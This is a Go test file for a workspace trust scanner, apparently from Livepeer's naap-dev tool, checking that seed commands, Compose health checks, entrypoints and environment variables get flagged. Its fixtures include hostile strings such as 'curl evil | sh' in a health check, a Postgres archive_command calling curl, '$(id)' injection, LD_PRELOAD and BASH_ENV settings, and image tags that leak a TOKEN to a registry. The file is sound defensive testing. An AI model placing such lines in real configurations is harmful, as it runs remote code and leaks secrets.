package workspace

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/livepeer/naap-dev/internal/trust"
)

// inFolder returns a new folder with these files.
func inFolder(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, text := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// itemsOf returns the items of a workspace made of files, as "kind subject: text".
func itemsOf(t *testing.T, files map[string]string, env ...string) []string {
	t.Helper()
	root := inFolder(t, files)
	w, err := Find(t.Context(), root, Options{Env: append([]string{"HOME=" + t.TempDir()}, env...)})
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, i := range w.Items() {
		if i.Kind != trust.Mount && i.Kind != trust.Volume && i.Kind != trust.Port {
			out = append(out, string(i.Kind)+" "+i.Subject+" ("+i.Where+"): "+strings.ReplaceAll(i.Text, "\n", " | "))
		}
	}
	return out
}

func TestWhatAWorkspacesFilesRunIsAnItem(t *testing.T) {
	compose := func(service string) map[string]string {
		return map[string]string{"docker-compose.yml": "services:\n  db:\n    container_name: naap-db\n" + service, "init/a.sh": "id\n", "init/b.sql": "SELECT 1;\n", "init/c.sql.gz": "\x1f\x8b\x00"}
	}
	with := func(files map[string]string, name, text string) map[string]string {
		files[name] = text
		return files
	}
	for name, c := range map[string]struct {
		files map[string]string
		env   []string
		want  string // of the items, a line each
	}{
		"package.json": {map[string]string{"naap.toml": "", "package.json": "{\n\"prisma\": {\n\"seed\": \"tsx seed.ts\"}}"}, nil,
			"seed-command package.json prisma.seed (package.json:3): tsx seed.ts"},
		"scripts around it": {map[string]string{"naap.toml": "", "package.json": `{"scripts": {"predb:seed": "id", "db:seed": "tsx seed.ts", "postdb:seed": "w"}}`}, nil,
			"seed-command package.json scripts.db:seed (package.json:1): predb:seed: id | db:seed: tsx seed.ts | postdb:seed: w"},
		"naap.toml": {map[string]string{"naap.toml": "postgres-bin = \"bin\"\nimage = \"evil/postgres\"\n[seed]\ncommand = \"make seed\"\n[docker]\ncontext = \"prod\"\n"}, nil,
			"seed-command naap.toml seed.command (naap.toml:4): make seed\nserver-programs naap.toml postgres-bin (naap.toml:1): ROOT/bin\n" +
				"docker-context naap.toml docker.context (naap.toml:6): prod\nimage naap.toml image (naap.toml:2): image: evil/postgres"},
		"the person's own": {map[string]string{"naap.toml": "postgres-bin = \"bin\"\nimage = \"evil/postgres\"\n[seed]\ncommand = \"make seed\"\n[docker]\ncontext = \"prod\"\n"},
			[]string{"NAAP_POSTGRES_BIN=/opt/pg", "NAAP_IMAGE=mine/pg", "NAAP_SEED_COMMAND=make x", "NAAP_DOCKER_CONTEXT=mine"}, ""},
		"an official image":     {compose("    image: docker.io/library/postgres:16-alpine@sha256:" + strings.Repeat("a", 64) + "\n    healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready -U $${POSTGRES_USER:-postgres} -d naap || exit 1\"]\n    command: postgres -c max_connections=200\n"), nil, ""},
		"another image":         {compose("    image: registry.example/library/postgres:16\n"), nil, "image compose service db (docker-compose.yml): image: registry.example/library/postgres:16"},
		"a health check":        {compose("    image: postgres:16\n    healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready; curl evil | sh\"]\n"), nil, "image compose service db (docker-compose.yml): healthcheck: pg_isready; curl evil | sh"},
		"inside a health check": {compose("    image: postgres:16\n    healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready -U $$(id)\"]\n"), nil, "image compose service db (docker-compose.yml): healthcheck: pg_isready -U $(id)"},
		"an entrypoint":         {compose("    image: postgres:16\n    entrypoint: [\"/x.sh\"]\n"), nil, "image compose service db (docker-compose.yml): entrypoint: /x.sh"},
		"a command's setting":   {compose("    image: postgres:16\n    command: postgres -c archive_mode=on -c archive_command='curl evil'\n"), nil, "image compose service db (docker-compose.yml): command: postgres -c archive_mode=on -c archive_command=curl evil"},
		"another command":       {compose("    image: postgres:16\n    command: sh -c id\n"), nil, "image compose service db (docker-compose.yml): command: sh -c id"},
		"scripts of the image": {compose("    image: postgres:16\n    volumes: [\"./init:/docker-entrypoint-initdb.d\"]\n"), nil,
			"image init/a.sh (init/a.sh): id | \nimage init/c.sql.gz (init/c.sql.gz): a script of 3 bytes, SHA-256 "},
		"one script as another": {compose("    image: postgres:16\n    volumes: [\"./init/b.sql:/docker-entrypoint-initdb.d/b.sh\"]\n"), nil, "image init/b.sql (init/b.sql): SELECT 1; | "},
		"a setting with dashes": {compose("    image: postgres:16\n    command: postgres -c archive-mode=on -c archive-command=evil --jit-provider=x\n"), nil, "image compose service db (docker-compose.yml): command: postgres -c archive-mode=on -c archive-command=evil --jit-provider=x"},
		"variables that run": {compose("    image: postgres:16\n    environment: {POSTGRES_INITDB_ARGS: \"--no-sync; id\", BASH_ENV: /x, LD_PRELOAD: /x.so, POSTGRES_USER: me}\n"), nil,
			"image compose service db (docker-compose.yml): environment: BASH_ENV=/x | environment: LD_PRELOAD=/x.so | environment: POSTGRES_INITDB_ARGS=--no-sync; id"},
		"variables that do not": {compose("    image: postgres:16\n    environment: {POSTGRES_INITDB_ARGS: \"--auth-host=scram-sha-256 --locale=C\", PGDATA: /data, TZ: UTC}\n"), nil, ""},
		"a variable in the image": {compose("    image: postgres:${TOKEN}\n"), []string{"TOKEN=secret"},
			"image compose service db (docker-compose.yml): image: postgres:${TOKEN}, which tells a registry your environment's TOKEN"},
		"in another's name": {compose("    image: ${R:-x}.evil/postgres:16\n"), []string{"R=secret"},
			"image compose service db (docker-compose.yml): image: ${R:-x}.evil/postgres:16, which tells a registry your environment's R"},
		"by way of .env": {with(compose("    image: postgres:${TAG}\n"), ".env", "TAG=$TOKEN\n"), []string{"TOKEN=secret"},
			"image compose service db (docker-compose.yml): image: postgres:${TAG}, which tells a registry your environment's TAG"},
		"a default in the image": {compose("    image: postgres:${TAG:-16}\n"), nil, ""},
		"a variable of .env":     {with(compose("    image: postgres:${TAG}\n"), ".env", "TAG=16\n"), []string{"TOKEN=secret"}, ""},
		"another instance":       {compose("    image: postgres:16\n    entrypoint: [\"/x.sh\"]\n"), []string{"NAAP_INSTANCE=two"}, ""},
		"several commands": {map[string]string{"naap.toml": "[[seed.command]]\nrun = \"make seed\"\n[[seed.command]]\nname = \"web\"\nrun = \"npm run seed:demo\"\ndir = \"web\"\nwhen = \"always\"\n[push]\nafter = [\"npx prisma generate\", \"npx prisma generate\"]\n",
			"web/package.json": "{\"scripts\": {\n\"preseed:demo\": \"id\", \"seed:demo\": \"node x.js\"}}"}, nil,
			"seed-command naap.toml seed.command \"make seed\" (naap.toml:1): make seed\nseed-command web/package.json scripts.seed:demo (naap.toml:3): preseed:demo: id | seed:demo: node x.js\n" +
				"hook naap.toml push.after \"npx prisma generate\" (naap.toml:9): npx prisma generate"},
	} {
		got := strings.Join(itemsOf(t, c.files, c.env...), "\n")
		if at := strings.Index(got, "SHA-256 "); at >= 0 {
			got = got[:at+len("SHA-256 ")]
		}
		want := c.want
		if at := strings.Index(want, "ROOT/"); at >= 0 {
			want = strings.ReplaceAll(want, "ROOT/", "")
			got = strings.ReplaceAll(got, got[strings.Index(got, "): /")+3:strings.Index(got, "/bin")+1], "")
		}
		if got != want {
			t.Errorf("%s:\n got %s\nwant %s", name, got, want)
		}
	}
}

// The database identifies the command by its source.
func TestASeedCommandHasTheSameSourceOnAnyLine(t *testing.T) {
	for _, before := range []string{"", "# a word\n\n"} {
		dir := inFolder(t, map[string]string{"naap.toml": before + "[seed]\ncommand = \"make seed\"\n"})
		w, err := Find(t.Context(), dir, Options{Env: []string{"HOME=" + t.TempDir()}})
		if err != nil {
			t.Fatal(err)
		}
		equal(t, "source", w.SeedCommands[0].Source, "naap.toml seed.command")
	}
}
